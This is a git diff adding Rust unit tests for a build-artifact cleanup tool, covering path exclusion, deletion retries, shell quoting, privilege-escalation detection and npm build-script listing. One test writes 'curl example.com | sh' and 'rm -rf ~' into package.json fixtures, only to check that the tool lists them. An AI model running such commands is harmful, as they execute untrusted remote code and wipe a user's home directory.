@@ -1,6 +1,6 @@
 // Utils tests
 
-use crate::utils::detect_language_for_path;
+use crate::utils::{detect_language_for_path, is_path_excluded};
 use std::fs;
 use tempfile::TempDir;
 
@@ -112,4 +112,535 @@ fn test_detect_language_unknown() {
     let temp_dir = TempDir::new().unwrap();
 
     assert_eq!(detect_language_for_path(temp_dir.path().to_str().unwrap()), "Unknown");
-}
\ No newline at end of file
+}
+
+#[test]
+fn test_is_path_excluded_prefix() {
+    let excluded = vec!["/a/b".to_string()];
+
+    assert!(is_path_excluded("/a/b", &excluded));
+    assert!(is_path_excluded("/a/b/c", &excluded));
+    assert!(!is_path_excluded("/a/bc", &excluded));
+    assert!(!is_path_excluded("/a", &excluded));
+}
+
+#[test]
+fn test_is_path_excluded_by_type() {
+    use crate::utils::type_exclusion;
+
+    let excluded = vec![type_exclusion("/work/", "node_modules")];
+    assert_eq!(excluded[0], "/work/**/node_modules");
+
+    assert!(is_path_excluded("/work/app/node_modules", &excluded));
+    assert!(is_path_excluded("/work/a/b/node_modules/.cache", &excluded));
+    assert!(!is_path_excluded("/work/app/target", &excluded));
+    assert!(!is_path_excluded("/other/app/node_modules", &excluded));
+    // Only whole directory names match
+    assert!(!is_path_excluded("/work/app/node_modules_old", &excluded));
+}
+
+#[test]
+fn test_parse_docker_size() {
+    use crate::utils::docker::parse_docker_size;
+
+    assert_eq!(parse_docker_size("0B"), 0);
+    assert_eq!(parse_docker_size("512kB"), 512_000);
+    assert_eq!(parse_docker_size("1.5GB (42%)"), 1_500_000_000);
+    assert_eq!(parse_docker_size("12MB"), 12_000_000);
+    assert_eq!(parse_docker_size("garbage"), 0);
+}
+
+#[test]
+fn test_format_bytes() {
+    use crate::utils::format_bytes;
+
+    assert_eq!(format_bytes(0), "0B");
+    assert_eq!(format_bytes(999), "999B");
+    assert_eq!(format_bytes(1_500), "1.5KB");
+    assert_eq!(format_bytes(12_400_000_000), "12.4GB");
+}
+
+#[test]
+fn test_language_cache_invalidates_on_mtime_change() {
+    use crate::utils::LanguageCache;
+    use std::time::{Duration, SystemTime};
+
+    let temp_dir = TempDir::new().unwrap();
+    let path = temp_dir.path().to_str().unwrap();
+    let set_dir_mtime = |secs: u64| {
+        let dir = fs::File::open(temp_dir.path()).unwrap();
+        dir.set_modified(SystemTime::UNIX_EPOCH + Duration::from_secs(secs)).unwrap();
+    };
+
+    let mut cache = LanguageCache::default();
+    set_dir_mtime(1_000);
+    assert_eq!(cache.detect(path), "Unknown");
+
+    // Same mtime: cached answer is reused even though the dir changed
+    fs::write(temp_dir.path().join("Cargo.toml"), "").unwrap();
+    set_dir_mtime(1_000);
+    assert_eq!(cache.detect(path), "Unknown");
+
+    // New mtime: detection runs again
+    set_dir_mtime(2_000);
+    assert_eq!(cache.detect(path), "Rust");
+
+    // Clearing forces fresh detection even with an unchanged mtime
+    fs::remove_file(temp_dir.path().join("Cargo.toml")).unwrap();
+    set_dir_mtime(2_000);
+    cache.clear();
+    assert_eq!(cache.detect(path), "Unknown");
+}
+
+#[test]
+fn test_describe_walk_error_not_found() {
+    use crate::utils::describe_walk_error;
+    use walkdir::WalkDir;
+
+    let temp_dir = TempDir::new().unwrap();
+    let missing = temp_dir.path().join("missing");
+    let err = WalkDir::new(&missing).into_iter().next().unwrap().unwrap_err();
+    assert_eq!(describe_walk_error(&err), format!("Skipped {}: not found", missing.display()));
+}
+
+#[test]
+fn test_is_path_protected_covers_project() {
+    use crate::utils::is_path_protected;
+
+    let protected = vec!["/work/client".to_string()];
+    assert!(is_path_protected("/work/client/target", &protected));
+    assert!(!is_path_protected("/work/client-b/target", &protected));
+    assert!(!is_path_protected("/work/client/target", &[]));
+}
+
+#[test]
+fn test_is_skipped_hidden_dir() {
+    use crate::utils::is_skipped_hidden_dir;
+
+    let artifact_dirs = ["target", ".next", ".gradle"];
+    assert!(is_skipped_hidden_dir(".git", &artifact_dirs));
+    assert!(is_skipped_hidden_dir(".config", &artifact_dirs));
+    assert!(!is_skipped_hidden_dir(".next", &artifact_dirs));
+    assert!(!is_skipped_hidden_dir("src", &artifact_dirs));
+    assert!(!is_skipped_hidden_dir(".", &artifact_dirs));
+}
+
+#[test]
+fn test_subdirectory_sizes() {
+    use crate::utils::subdirectory_sizes;
+
+    let temp_dir = TempDir::new().unwrap();
+    let target = temp_dir.path().join("target");
+    fs::create_dir_all(target.join("debug")).unwrap();
+    fs::create_dir_all(target.join("release")).unwrap();
+    fs::write(target.join("debug").join("app"), vec![0u8; 300]).unwrap();
+    fs::write(target.join("release").join("app"), vec![0u8; 100]).unwrap();
+    fs::write(target.join("CACHEDIR.TAG"), "x").unwrap();
+
+    let entries = subdirectory_sizes(&target.display().to_string());
+    // Files at the top level are ignored, largest child first
+    assert_eq!(entries.len(), 2);
+    assert!(entries[0].0.ends_with("debug"));
+    assert_eq!(entries[0].1, 300);
+    assert_eq!(entries[1].1, 100);
+}
+
+#[test]
+fn test_remove_with_retry() {
+    use crate::utils::deletion::{is_transient_removal_error, remove_with_retry};
+    use std::io;
+
+    let temp_dir = TempDir::new().unwrap();
+    let target = temp_dir.path().join("target");
+    fs::create_dir_all(target.join("debug")).unwrap();
+    fs::write(target.join("debug").join("app"), "bin").unwrap();
+    let target = target.display().to_string();
+
+    remove_with_retry(&target).unwrap();
+    assert!(!std::path::Path::new(&target).exists());
+    // Already gone counts as removed
+    remove_with_retry(&target).unwrap();
+
+    assert!(is_transient_removal_error(&io::Error::from(io::ErrorKind::ResourceBusy)));
+    assert!(!is_transient_removal_error(&io::Error::from(io::ErrorKind::InvalidInput)));
+}
+
+#[cfg(unix)]
+#[test]
+fn test_escalation_from_path() {
+    use crate::utils::deletion::{Escalation, escalation_from_path};
+    use std::os::unix::fs::PermissionsExt;
+
+    let temp_dir = TempDir::new().unwrap();
+    let bin = temp_dir.path().join("bin");
+    fs::create_dir_all(&bin).unwrap();
+    let path_var = std::env::join_paths([temp_dir.path().join("missing"), bin.clone()]).unwrap();
+    assert_eq!(escalation_from_path(&path_var), None);
+
+    // A file that isn't executable doesn't count
+    fs::write(bin.join("pkexec"), "").unwrap();
+    assert_eq!(escalation_from_path(&path_var), None);
+    fs::set_permissions(bin.join("pkexec"), fs::Permissions::from_mode(0o755)).unwrap();
+    assert_eq!(escalation_from_path(&path_var), Some(Escalation::Pkexec));
+
+    // doas is preferred over pkexec when both are installed
+    fs::write(bin.join("doas"), "").unwrap();
+    fs::set_permissions(bin.join("doas"), fs::Permissions::from_mode(0o755)).unwrap();
+    assert_eq!(escalation_from_path(&path_var), Some(Escalation::Doas));
+}
+
+#[test]
+fn test_largest_files() {
+    use crate::utils::largest_files;
+
+    let temp_dir = TempDir::new().unwrap();
+    let root = temp_dir.path();
+    fs::create_dir_all(root.join("deps")).unwrap();
+    fs::write(root.join("small.txt"), vec![0u8; 10]).unwrap();
+    fs::write(root.join("deps").join("big.bin"), vec![0u8; 1000]).unwrap();
+    fs::write(root.join("medium.map"), vec![0u8; 100]).unwrap();
+
+    let (files, truncated) = largest_files(&root.display().to_string(), 2, 1000);
+    assert!(!truncated);
+    assert_eq!(files.len(), 2);
+    assert_eq!(files[0], (std::path::Path::new("deps").join("big.bin").display().to_string(), 1000));
+    assert_eq!(files[1].1, 100);
+
+    // A tiny walk budget stops early and says so
+    let (_, truncated) = largest_files(&root.display().to_string(), 10, 2);
+    assert!(truncated);
+}
+
+#[test]
+fn test_truncate_middle() {
+    use crate::utils::truncate_middle;
+
+    let sep = std::path::MAIN_SEPARATOR.to_string();
+    let path = ["", "home", "user", "projects", "deep", "target"].join(&sep);
+    assert_eq!(truncate_middle(&path, 100), path, "short paths are left alone");
+
+    let short = truncate_middle(&path, 22);
+    assert_eq!(short, ["", "home", "...", "deep", "target"].join(&sep));
+    assert!(short.chars().count() <= 22);
+
+    // The leaf survives even when nothing else fits
+    assert_eq!(truncate_middle(&path, 12), ["...", "target"].join(&sep));
+    assert_eq!(truncate_middle(&path, 6), "...get");
+}
+
+#[test]
+fn test_relative_time_since() {
+    use crate::utils::relative_time_since;
+    use chrono::{Duration, Utc};
+
+    let now = Utc::now();
+    assert_eq!(relative_time_since(now, now), "just now");
+    assert_eq!(relative_time_since(now + Duration::seconds(30), now), "just now");
+    assert_eq!(relative_time_since(now + Duration::hours(2), now), "in the future");
+    assert_eq!(relative_time_since(now - Duration::minutes(5), now), "5m ago");
+    assert_eq!(relative_time_since(now - Duration::hours(2), now), "2h ago");
+    assert_eq!(relative_time_since(now - Duration::days(3), now), "3d ago");
+    assert_eq!(relative_time_since(now - Duration::days(95), now), "3mo ago");
+    assert_eq!(relative_time_since(now - Duration::days(800), now), "2y ago");
+}
+
+#[cfg(unix)]
+#[test]
+fn test_stored_paths_are_unambiguous_and_decoded_for_the_shell() {
+    use crate::utils::deletion::shell_quote;
+    use crate::utils::{path_from_string, path_to_string};
+    use std::ffi::OsStr;
+    use std::os::unix::ffi::OsStrExt;
+    use std::path::Path;
+
+    // A real U+EF80 in a name and a lone 0x80 byte must not be stored the same way
+    let private_use = Path::new("/p/\u{EF80}");
+    let raw = Path::new(OsStr::from_bytes(b"/p/\x80"));
+    assert_ne!(path_to_string(private_use), path_to_string(raw));
+    assert_eq!(path_from_string(&path_to_string(private_use)), private_use);
+    assert_eq!(path_from_string(&path_to_string(raw)), raw);
+
+    // The quoted form hands the shell the real bytes
+    let dir = TempDir::new().unwrap();
+    let target = dir.path().join(OsStr::from_bytes(b"caf\xe9's"));
+    fs::create_dir(&target).unwrap();
+    let status = std::process::Command::new("sh")
+        .arg("-c")
+        .arg(format!("test -d {}", shell_quote(&path_to_string(&target))))
+        .status()
+        .unwrap();
+    assert!(status.success());
+}
+
+#[test]
+fn test_cleanup_script_quotes_paths() {
+    use crate::utils::deletion::{cleanup_script, shell_quote};
+
+    assert_eq!(shell_quote("/a b/target"), "'/a b/target'");
+    assert_eq!(shell_quote("/it's/$HOME"), "'/it'\\''s/$HOME'");
+
+    let script = cleanup_script(&["/w/app/target".to_string(), "/w/my app/node_modules".to_string()], "2024-01-02 14:33:00");
+    assert!(script.starts_with("#!/bin/sh\n# Generated by ratifact on 2024-01-02 14:33:00\n"));
+    assert!(script.contains("rm -rf '/w/app/target'\n"));
+    assert!(script.ends_with("rm -rf '/w/my app/node_modules'\n"));
+}
+
+#[test]
+fn test_used_within_days() {
+    use crate::utils::used_within_days;
+
+    let temp_dir = TempDir::new().unwrap();
+    let path = temp_dir.path().display().to_string();
+    // Just created, so it was used inside any window
+    assert!(used_within_days(&path, 30));
+    assert!(!used_within_days(&path, 0));
+    assert!(!used_within_days("/definitely/not/here", 30));
+}
+
+#[test]
+fn test_used_within_days_ignores_reads() {
+    use crate::utils::used_within_days;
+    use std::fs::FileTimes;
+    use std::time::{Duration, SystemTime};
+
+    let temp_dir = TempDir::new().unwrap();
+    let file = temp_dir.path().join("out.bin");
+    fs::write(&file, "x").unwrap();
+    // Read just now (as a scan does), last written long ago
+    let old = SystemTime::now() - Duration::from_secs(40 * 24 * 60 * 60);
+    let times = FileTimes::new().set_accessed(SystemTime::now()).set_modified(old);
+    fs::File::options().write(true).open(&file).unwrap().set_times(times).unwrap();
+    fs::File::open(temp_dir.path()).unwrap().set_times(times).unwrap();
+    assert!(!used_within_days(&temp_dir.path().display().to_string(), 30));
+}
+
+#[cfg(unix)]
+#[test]
+fn test_run_pre_delete_hook() {
+    use crate::utils::deletion::run_pre_delete_hook;
+
+    let temp_dir = TempDir::new().unwrap();
+    let spaced = temp_dir.path().join("my target");
+    fs::create_dir_all(&spaced).unwrap();
+    let spaced = spaced.display().to_string();
+
+    // The path arrives as a single argument even with spaces in it
+    assert!(run_pre_delete_hook("test -d", &spaced).is_ok());
+    assert!(run_pre_delete_hook("test -f", &spaced).is_err());
+
+    let err = run_pre_delete_hook("echo backup failed >&2; exit 3;", &spaced).unwrap_err();
+    assert!(err.contains("backup failed"));
+}
+
+#[test]
+fn test_describe_delete_error() {
+    use crate::utils::deletion::describe_delete_error;
+    use std::io;
+
+    assert_eq!(describe_delete_error(&io::Error::from(io::ErrorKind::PermissionDenied)), "permission denied");
+    assert_eq!(describe_delete_error(&io::Error::from(io::ErrorKind::ResourceBusy)), "busy (in use by another process)");
+    let custom = io::Error::new(io::ErrorKind::PermissionDenied, "sudo rm exited with 1 (wrong password?)");
+    assert_eq!(describe_delete_error(&custom), "sudo rm exited with 1 (wrong password?)");
+}
+
+#[test]
+fn test_is_orphaned() {
+    use crate::utils::is_orphaned;
+
+    let temp_dir = TempDir::new().unwrap();
+    let project = temp_dir.path().join("app");
+    fs::create_dir_all(project.join("node_modules")).unwrap();
+    let project_path = project.display().to_string();
+    assert!(is_orphaned(&project_path));
+
+    fs::write(project.join("package.json"), "{}").unwrap();
+    assert!(!is_orphaned(&project_path));
+}
+
+#[test]
+fn test_is_orphaned_only_when_nothing_but_artifacts_is_left() {
+    use crate::utils::is_orphaned;
+
+    let temp_dir = TempDir::new().unwrap();
+    for (name, file) in [("dotnet", "App.csproj"), ("solution", "App.sln"), ("gradle", "settings.gradle.kts"), ("deno", "deno.json"), ("zig", "build.zig")] {
+        let project = temp_dir.path().join(name);
+        fs::create_dir_all(project.join("bin")).unwrap();
+        fs::write(project.join(file), "").unwrap();
+        assert!(!is_orphaned(&project.display().to_string()), "{} has a project file", name);
+    }
+    // Only artifacts and editor droppings left behind
+    let gone = temp_dir.path().join("gone");
+    fs::create_dir_all(gone.join("target")).unwrap();
+    fs::create_dir_all(gone.join("node_modules")).unwrap();
+    fs::write(gone.join(".DS_Store"), "").unwrap();
+    assert!(is_orphaned(&gone.display().to_string()));
+}
+
+#[test]
+fn test_vanished_artifacts() {
+    use crate::utils::vanished_artifacts;
+
+    let temp_dir = TempDir::new().unwrap();
+    let root = temp_dir.path().display().to_string();
+    fs::create_dir_all(temp_dir.path().join("app/target")).unwrap();
+    let present = format!("{}/app/target", root);
+    let gone = format!("{}/old/node_modules", root);
+    // Under a scan path that isn't there right now (unmounted drive): kept
+    let unmounted = "/mnt/definitely-not-mounted/app/target".to_string();
+    let paths = vec![present, gone.clone(), unmounted];
+    let roots = vec![root, "/mnt/definitely-not-mounted".to_string()];
+    assert_eq!(vanished_artifacts(&paths, &roots), vec![gone]);
+}
+
+#[test]
+fn test_vanished_artifacts_keeps_what_it_cannot_verify() {
+    use crate::utils::vanished_artifacts;
+
+    let temp_dir = TempDir::new().unwrap();
+    // An empty scan path looks like a mount point whose drive is unmounted
+    let mount_point = temp_dir.path().join("mnt");
+    fs::create_dir(&mount_point).unwrap();
+    let mount_point = mount_point.display().to_string();
+    let on_drive = format!("{}/app/target", mount_point);
+    // Not under any scan path, e.g. scanned once with a path argument
+    let elsewhere = format!("{}/other/app/target", temp_dir.path().display());
+    let paths = vec![on_drive, elsewhere];
+    assert!(vanished_artifacts(&paths, &[mount_point]).is_empty());
+}
+
+#[test]
+fn test_truncate_middle_shows_raw_bytes_as_replacement() {
+    use crate::utils::truncate_middle;
+    // U+EFE9 is how the non-UTF-8 byte 0xE9 is stored
+    assert_eq!(truncate_middle("/home/caf\u{efe9}/target", 80), "/home/caf\u{fffd}/target");
+}
+
+#[test]
+fn test_rebuild_command_and_npm_build_scripts() {
+    use crate::utils::{npm_build_scripts, rebuild_command};
+
+    let dir = TempDir::new().unwrap();
+    assert_eq!(rebuild_command(dir.path()), None);
+    fs::write(dir.path().join("package.json"), r#"{"scripts": {"build": "tsc && curl example.com | sh"}}"#).unwrap();
+    assert_eq!(rebuild_command(dir.path()), Some("npm run build"));
+    assert_eq!(npm_build_scripts(dir.path()), vec![("build", "tsc && curl example.com | sh".to_string())]);
+    // npm runs the pre and post hooks around it, so they are shown too
+    fs::write(dir.path().join("package.json"), r#"{"scripts": {"postbuild": "rm -rf ~", "build": "tsc", "prebuild": "node gen.js"}}"#).unwrap();
+    let names: Vec<&str> = npm_build_scripts(dir.path()).into_iter().map(|(name, _)| name).collect();
+    assert_eq!(names, vec!["prebuild", "build", "postbuild"]);
+    // Cargo wins when both manifests are present
+    fs::write(dir.path().join("Cargo.toml"), "[package]").unwrap();
+    assert_eq!(rebuild_command(dir.path()), Some("cargo build"));
+}
+
+#[test]
+fn test_free_space_plan_takes_oldest_until_target() {
+    use crate::utils::free_space_plan;
+
+    let candidates = vec![("/old".to_string(), 400), ("/older-ish".to_string(), 300), ("/new".to_string(), 500)];
+    // 100 free, 600 wanted: the first two free 700 together
+    assert_eq!(free_space_plan(&candidates, 100, 600), vec!["/old".to_string(), "/older-ish".to_string()]);
+    assert!(free_space_plan(&candidates, 600, 600).is_empty());
+    // Not enough to reach the target: everything goes
+    assert_eq!(free_space_plan(&candidates, 0, 10_000).len(), 3);
+}
+
+#[test]
+fn test_area_exclusion() {
+    use crate::utils::area_exclusion;
+
+    assert_eq!(area_exclusion("/home/me/Downloads/unpacked/app/node_modules", "/home/me"), Some("/home/me/Downloads".to_string()));
+    assert_eq!(area_exclusion("/home/me/project/target", "/home/me"), Some("/home/me/project".to_string()));
+    // Directly in the scan path the area would be the artifact itself
+    assert_eq!(area_exclusion("/home/me/target", "/home/me"), None);
+    assert_eq!(area_exclusion("/elsewhere/app/target", "/home/me"), None);
+}
+
+#[test]
+fn test_duplicate_dependency_trees() {
+    use crate::utils::{dependency_fingerprint, duplicate_groups};
+
+    let dir = TempDir::new().unwrap();
+    let mut artifacts = vec![];
+    for (project, lockfile) in [("a", "same"), ("b", "same"), ("c", "different")] {
+        let node_modules = dir.path().join(project).join("node_modules");
+        fs::create_dir_all(&node_modules).unwrap();
+        fs::write(dir.path().join(project).join("package-lock.json"), lockfile).unwrap();
+        artifacts.push(node_modules.display().to_string());
+    }
+    // No lockfile, and not a node_modules tree: neither can be compared
+    let unlocked = dir.path().join("d").join("node_modules");
+    fs::create_dir_all(&unlocked).unwrap();
+    assert_eq!(dependency_fingerprint(&unlocked.display().to_string()), None);
+    assert_eq!(dependency_fingerprint(&dir.path().join("a").display().to_string()), None);
+    // pnpm trees already share a store, so there is nothing to reclaim
+    let pnpm = dir.path().join("e").join("node_modules");
+    fs::create_dir_all(&pnpm).unwrap();
+    fs::write(dir.path().join("e").join("pnpm-lock.yaml"), "same").unwrap();
+    assert_eq!(dependency_fingerprint(&pnpm.display().to_string()), None);
+
+    let fingerprints: Vec<(String, u64)> = artifacts.iter().map(|p| (p.clone(), dependency_fingerprint(p).unwrap())).collect();
+    assert_eq!(duplicate_groups(&fingerprints), vec![vec![artifacts[0].clone(), artifacts[1].clone()]]);
+}
+
+#[test]
+fn test_least_recently_modified_skips_recent_work() {
+    use crate::utils::least_recently_modified;
+    use std::time::{Duration, SystemTime};
+
+    let dir = TempDir::new().unwrap();
+    let days_ago = |days: u64| SystemTime::now() - Duration::from_secs(days * 24 * 60 * 60);
+    let mut candidates = vec![];
+    for (name, age_days) in [("middle", 10), ("recent", 0), ("oldest", 40)] {
+        let artifact = dir.path().join(name);
+        fs::create_dir(&artifact).unwrap();
+        let file = artifact.join("out.bin");
+        fs::write(&file, "x").unwrap();
+        fs::File::options().write(true).open(&file).unwrap().set_modified(days_ago(age_days)).unwrap();
+        fs::File::open(&artifact).unwrap().set_modified(days_ago(age_days)).unwrap();
+        candidates.push((artifact.display().to_string(), 1));
+    }
+    candidates.push((dir.path().join("gone").display().to_string(), 1));
+
+    let ordered: Vec<String> = least_recently_modified(&candidates, 1).into_iter().map(|(path, _)| path).collect();
+    // Oldest content first; the one modified today and the missing one are never candidates
+    assert_eq!(ordered, vec![candidates[2].0.clone(), candidates[0].0.clone()]);
+}
+
+#[cfg(unix)]
+#[test]
+fn test_free_space_bytes() {
+    use crate::utils::free_space_bytes;
+
+    let dir = TempDir::new().unwrap();
+    assert!(free_space_bytes(&dir.path().display().to_string()).is_some());
+    assert!(free_space_bytes("/definitely/not/here").is_none());
+}
+
+#[test]
+fn test_write_scan_report() {
+    use crate::utils::report::{ReportedArtifact, ScanReportFile, write_scan_report};
+    use chrono::TimeZone;
+
+    let generated_at = chrono::Local.with_ymd_and_hms(2024, 1, 2, 15, 30, 0).unwrap();
+    let report = ScanReportFile::new(
+        generated_at,
+        1_500,
+        vec![
+            ReportedArtifact { path: "/p/a/target".to_string(), size_bytes: Some(100) },
+            ReportedArtifact { path: "/p/b/node_modules".to_string(), size_bytes: Some(300) },
+            ReportedArtifact { path: "/p/c/dist".to_string(), size_bytes: None },
+        ],
+    );
+    assert_eq!(report.total_bytes, 400);
+    assert_eq!(report.artifacts[0].path, "/p/b/node_modules");
+
+    let temp_dir = TempDir::new().unwrap();
+    // The directory is created on first use
+    let dir = temp_dir.path().join("reports");
+    let path = write_scan_report(&dir, &report, generated_at).unwrap();
+    assert_eq!(path.file_name().unwrap(), "scan-2024-01-02-153000.json");
+    let written: serde_json::Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+    assert_eq!(written["artifact_count"], 3);
+    assert_eq!(written["artifacts"][2]["size_bytes"], serde_json::Value::Null);
+}